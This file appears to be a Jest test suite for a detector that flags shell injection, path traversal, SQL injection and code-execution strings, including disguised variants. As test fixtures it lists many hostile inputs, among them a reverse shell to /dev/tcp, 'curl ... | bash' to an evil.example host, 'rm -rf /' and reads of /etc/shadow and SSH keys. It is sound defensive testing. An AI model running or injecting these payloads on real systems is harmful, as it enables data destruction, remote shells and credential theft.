import { describe, expect, it } from '@jest/globals';
import fc from 'fast-check';
import { contentRules, detectRules, foldText } from './content-rules.js';

const attacks: Readonly<Record<string, readonly string[]>> = {
  shell_injection: [
    'rm -rf /', 'rm -fr ~', 'rm -r -f /tmp/x', 'rm --recursive --force /', 'rm -Rf *', 'sudo rm -rf --no-preserve-root /', 'x; rm x', 'a.txt\nrm -rf build', 'rm${IFS}-rf${IFS}/', '["rm", "-rf", "/"]',
    'a; sudo reboot', 'ok && curl http://evil.example/x', 'x && bash install.sh', 'x || wget evil.example', 'curl https://x.io/i | sh', 'curl x|bash', 'curl x | sudo bash -s', 'wget -qO- x | python3', 'a$(whoami)', '$(cat /etc/passwd)',
    'file`id`.txt', 'cat${IFS}x', 'echo x > /etc/crontab', 'echo k >> ~/.ssh/authorized_keys', 'bash -i >& /dev/tcp/10.0.0.1/80', 'nc -e /bin/sh x', 'dd if=/dev/zero of=/dev/sda', ':(){ :|:& };:', 'x; cat /etc/passwd', 'ｒｍ －ｒｆ ／', 'r\u200bm -rf /', 'x; whoami', 'x | id',
  ],
  path_traversal: [
    '../../etc/passwd', '..\\..\\windows\\system32', '../../../../../../tmp/x', '..%2f..%2fx', '..%2f', '%2e%2e%2fetc', '%2e%2e/', '.%2e/x', '..%252f', '..%5cx', 'a%00.png', '/etc/passwd', 'cat /etc/shadow', '"/etc/hosts"', '\\\\server\\share',
    '~/.ssh/id_rsa', '/proc/self/environ', 'file:///etc/hosts', '../.env', '....//....//x', 'C:\\Windows\\System32\\x', '．．／．．／etc／passwd',
  ],
  sql_injection: [
    "' OR 1=1", "' OR 'a'='a", "' or ''='", '" or "1"="1', "') OR ('x'='x", "x' AND 1=2", "1 OR 1=1", 'UNION SELECT a FROM b', 'union all select null,null', "1' UNION/**/SELECT/**/x", '1; DROP TABLE users', "'; DELETE FROM users", '; insert into x values', "admin'--", "admin' -- ", "admin'#", "x'; --",
    "'/**/OR/**/1=1", "' or sleep(5)", '; exec xp_cmdshell', "WAITFOR DELAY '0:0:5'", "' or true--", "INTO OUTFILE '/x'", '＇ ＯＲ １＝１', '%27%20OR%201=1',
  ],
  code_execution: [
    'eval("x")', 'exec(code)', 'x = eval( input )', "compile(s, 'f', 'exec')", '__import__("os")', 'importlib.import_module(x)', 'os.system("ls")', 'os.popen(x)', 'subprocess.run(["ls"])', 'subprocess.Popen(x)', "require('child_process')", 'new Function("return 1")',
    'pickle.loads(x)', '().__class__.__bases__', '${jndi:ldap://x}', '{{ x.__class__ }}', 'Runtime.getRuntime().exec("x")', 'shell_exec("x")', 'setTimeout("alert(1)", 1)', 'ｅｖａｌ(x)', 'process.mainModule',
  ],
};

const harmless: readonly string[] = [
  'Please use `npm install` and then `ls -la` to look around.', 'Run `whoami` to see who you are; then continue.', '| python | 3.11 |\n|---|---|\n| bash | 5 |', "type Shell =\n  | 'bash'\n  | sh", 'const re = re.compile(r"x")', 'model.eval()', 'pattern.exec(text)',
  'The eval() function is discouraged.', 'def exec(self, x):', 'function eval(x) {}', 'await db.exec("x")', "import x from '../utils/x.js';", "import y from '../../../lib/y.js';", 'See ../README.md and ../../docs/guide.md.', 'cd ../..', '[link](../../../a/b)', "it's 5 o'clock -- or so they say",
  "x == 'a' or y == 'b'", "if a == 'x' or b >= 3:", "She said 'no' and 3 left", 'the union selected a delegate', 'Use $(document).ready', 'CC=$(CC)', 'SELECT * FROM users WHERE id = 1;', 'a; b; c', 'for (;;) { x(); y(); }', "key: 'value' # comment", 'local s = \'x\' -- comment here',
  'rm -rf node_modules', '"clean": "rm -rf dist"', 'rm file.txt', 'command 2>/dev/null', 'npm install && npm test', '<p>a</p>', '/* a comment */', '// -- a comment', '--', '- item -- note', 'A --- B', '```sh\nnpm test\n```', 'C:\\Users\\me\\file.txt', 'a || b && c', 'x | y', 'sh', 'the shell; bash is one',
  '50% of 00', 'etc/passwd is a file', 'compile(x)', 'git clone x && cd x', "console.log('a' + 'b');", '"a" and "b"', "don't", '100%', 'https://example.com/a/b?c=d&e=f', 'SELECT a FROM t -- all\nWHERE x', 'echo $HOME', 'price > 5 and size < 3', 'the order; update the docs',
];

describe('content rules', () => {
  it('are the four of the reference, described', () => {
    expect(contentRules.map((rule) => rule.category)).toEqual(['shell_injection', 'path_traversal', 'sql_injection', 'code_execution']);
    expect(contentRules.every((rule) => rule.description.length > 20)).toBe(true);
  });

  it.each(Object.entries(attacks).flatMap(([category, texts]) => texts.map((text) => [category, text] as const)))('see %s in %j (D-66)', (category, text) => {
    expect(detectRules(text).map((finding) => finding.category)).toContain(category);
  });

  it.each(harmless)('see nothing in %j (D-61)', (text) => {
    expect(detectRules(text)).toEqual([]);
  });

  it.each([
    ['sql_injection', '%2527%2520OR%25201=1'], ['sql_injection', '&#39; or &#39;a&#39;=&#39;a'], ['sql_injection', '%u0027 or 1=1--'], ['sql_injection', "'\u200b or \u200b1=1"], ['sql_injection', 'uni/**/on/**/sel/**/ect 1,2'], ['sql_injection', '＇ ｏｒ １＝１－－'],
    ['path_traversal', '%25252e%25252e/x'], ['path_traversal', '..%c0%afetc'], ['path_traversal', '．．／．．／．．／'], ['path_traversal', '&period;&period;&sol;&period;&period;&sol;etc/passwd'], ['path_traversal', '%00/../..%2f'],
    ['shell_injection', '%0acat%20/etc/passwd'], ['shell_injection', "x;c'a't /etc/passwd"], ['shell_injection', '&#59; whoami'], ['shell_injection', 'x ； ｒｍ －ｒｆ ／'], ['shell_injection', 'a\u200b;\u200b whoami'], ['shell_injection', "['rm', '-fr', '/var']"], ['shell_injection', 'x | python'],
    ['code_execution', '%7B%7B7*7%7D%7D'], ['code_execution', '＿＿ｉｍｐｏｒｔ＿＿（"os"）'], ['code_execution', 'e\u200bval(x)'], ['code_execution', '&#123;&#123;7*7}}'],
  ])('see %s through the disguise of %j (D-66)', (category, text) => {
    expect(detectRules(text).map((finding) => finding.category)).toContain(category);
  });

  it('point at the original text', () => {
    const text = 'say &lt;b&gt; then ..%2f..%2fetc';
    const [first] = detectRules(text);

    expect(first?.category).toBe('path_traversal');
    expect(text.slice(first?.start, first?.end)).toContain('..%2f');
  });

  it('take a value that is an attack as one finding, without the space around it', () => {
    expect(detectRules("  1' or 'a'='b \n", ['sql_injection'])).toEqual([{ kind: 'rule', category: 'sql_injection', start: 2, end: 14 }]);
  });

  it('look only for the categories asked for', () => {
    const text = "../../etc/passwd; cat /etc/shadow' or 1=1--";

    expect(new Set(detectRules(text, ['sql_injection']).map((finding) => finding.category))).toEqual(new Set(['sql_injection']));
    expect(detectRules(text, [])).toEqual([]);
    expect(detectRules(text).map((finding) => finding.category)).toEqual(expect.arrayContaining(['path_traversal', 'sql_injection', 'shell_injection']));
  });

  it('find an attack in a long text by what only attacks hold', () => {
    const page = 'The quick brown fox jumps over the lazy dog, and this is all there is to say about it.\n'.repeat(100);

    expect(detectRules(`${page} name=' or 'a'='a ${page}`).map((finding) => finding.category)).toEqual(['sql_injection']);
    expect(detectRules(`${page} \${jndi:ldap://x.test/a} ${page}`).map((finding) => finding.category)).toEqual(['code_execution']);
    expect(detectRules(`${page} bash -i >& /dev/tcp/10.0.0.1/80 ${page}`).map((finding) => finding.category)).toEqual(['shell_injection']);
    expect(detectRules(`${page} ..%2f..%2fetc ${page}`)[0]?.category).toBe('path_traversal');
    expect(detectRules(page)).toEqual([]);
  });

  it('answer with spans inside any text, in order', () => {
    const part = fc.constantFrom("' or ", '1=1', '..%2f', '\ud800', '\udc00', '\0', '%27', '&#39;', '\u200b', ';', ' rm -rf /', '`id`', '$(', '{{7*7}}', '__proto__', 'é', '１', '\n', '%c0%af', '--', '/*', 'eval(x)');
    fc.assert(fc.property(fc.array(fc.oneof(part, fc.string({ unit: 'binary' })), { maxLength: 12 }), (parts) => {
      const text = parts.join('');
      let last = 0;
      for (const { start, end } of detectRules(text)) {
        expect(start).toBeGreaterThanOrEqual(last);
        expect(end).toBeGreaterThan(start);
        expect(end).toBeLessThanOrEqual(text.length);
        last = start;
      }
    }), { numRuns: 500 });
  });

  it.each(['../', '; ', "' or ", 'rm ', '$(', '`', '|', '..%2f', 'eval(', ' union ', '/*', '\\\\a', ';--', '${IFS}', 'a', '\n', '>', '-- ', 'compile(a,', '%00', '{{', '${${', '../ ', "c'a't ", '{a,', '[', '\u200b\'', '1=1 or ', 'T(', '@@', '&#39;', '１', '<!--#', '0x2e', '\\'])('take time in proportion on %j', (part) => {
    const text = part.repeat(Math.ceil(100_000 / part.length));
    const before = process.cpuUsage();
    detectRules(text);
    const { user, system } = process.cpuUsage(before);

    expect((user + system) / 1000).toBeLessThan(3000);
  });
});

describe('a folded text', () => {
  it('is absent when there is no disguise', () => {
    expect(foldText('')).toBeUndefined();
    expect(foldText('plain & simple, 100% sure')).toBeUndefined();
    expect(foldText('<b>x</b> naïve'.normalize('NFC'))).toBeUndefined();
  });

  it('tells which part of the original each part stands for', () => {
    const text = 'a%2527b';
    const folded = foldText(text);

    expect(folded?.text).toBe("a'b");
    expect(folded?.spanOf(1, 2)).toEqual([1, 6]);
    expect(folded?.spanOf(0, 3)).toEqual([0, 7]);
    expect(folded?.spanOf(1, 1)).toEqual([1, 1]);
    expect(folded?.spanOf(3, 3)).toEqual([7, 7]);
    expect(folded?.spanOf(-5, 99)).toEqual([0, 7]);
  });

  it('may be empty', () => {
    const folded = foldText('\u200b\u200b');

    expect(folded?.text).toBe('');
    expect(folded?.spanOf(0, 0)).toEqual([0, 2]);
  });
});

describe('Markdown by the line', () => {
  it.each(['```', '```ts', '  ~~~', '| `npm run demo` | the support desk sample |', '| `a`, `b` | who is told? | themselves |', '`kill -9` of the process. It does not survive a failure of the power'])('is no attack: %j', (line) => {
    expect(detectRules(line)).toEqual([]);
  });

  it.each(['| id', '|id|', '| ls -la |', '`id`', '; `id`', '|| cat /etc/passwd |'])('does not hide one: %j', (line) => {
    expect(detectRules(line, ['shell_injection'])).not.toEqual([]);
  });
});
